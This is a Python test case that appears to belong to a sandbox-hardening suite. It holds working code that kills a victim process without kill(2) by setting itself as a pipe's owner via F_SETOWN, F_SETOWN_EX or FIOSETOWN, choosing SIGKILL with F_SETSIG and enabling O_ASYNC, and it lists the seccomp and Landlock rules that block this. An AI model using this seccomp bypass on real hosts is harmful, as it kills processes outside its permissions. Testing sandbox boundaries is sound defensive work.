"""Kill another process without ``kill(2)``: ``fcntl(F_SETOWN)`` + ``O_ASYNC`` (SIGIO).

Attack (own): seccomp filters the kill-like system calls, but a file's owner gets a signal
(SIGIO, or any signal chosen with ``F_SETSIG``) when I/O becomes possible. The strategy makes
a pipe, sets the test's victim process (uid 65534, like every strategy process) as the owner of
its read end with ``F_SETOWN`` (then ``F_SETOWN_EX`` and ``ioctl(FIOSETOWN)``), picks SIGKILL
with ``F_SETSIG``, turns on ``O_ASYNC`` and writes a byte. The same works against any process
running as uid 65534 on the host: other strategies of other workers, or ``nobody`` daemons.
Should be stopped by: the kernel boundary ("no signals to other processes"). Candidates: a
Landlock signal scope (ABI 6, ``LANDLOCK_SCOPE_SIGNAL``, which covers SIGIO) or seccomp
denying ``F_SETOWN``/``F_SETOWN_EX``/``F_SETSIG`` and ``FIOSETOWN``/``SIOCSPGRP``.
"""

import ctypes
import fcntl
import os
import signal
import struct
import time

PARAMETERS = {}

VICTIM = int("@@VICTIM_PID@@")
F_SETSIG = 10
F_SETOWN_EX = 15
F_OWNER_PID = 1
FIOSETOWN = 0x8901


def _fire(setup):
    r, w = os.pipe()
    try:
        setup(r)
        fcntl.fcntl(r, F_SETSIG, signal.SIGKILL)
        fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
        os.write(w, b"x")
        time.sleep(0.05)
    finally:
        os.close(r)
        os.close(w)


def generate_positions(data, **params):
    libc = ctypes.CDLL(None, use_errno=True)
    log = []
    routes = {
        "F_SETOWN": lambda r: fcntl.fcntl(r, fcntl.F_SETOWN, VICTIM),
        "F_SETOWN_EX": lambda r: fcntl.fcntl(
            r, F_SETOWN_EX, struct.pack("ii", F_OWNER_PID, VICTIM)
        ),
        "FIOSETOWN": lambda r: libc.ioctl(r, FIOSETOWN, ctypes.byref(ctypes.c_int(VICTIM))),
    }
    for name, setup in routes.items():
        try:
            _fire(setup)
            log.append(f"{name}: fired")
        except Exception as exc:
            log.append(f"{name}: {type(exc).__name__}")
    # the test checks whether the victim survived; nothing here can tell reliably
    raise RuntimeError("SIGIO to victim: " + "; ".join(log))
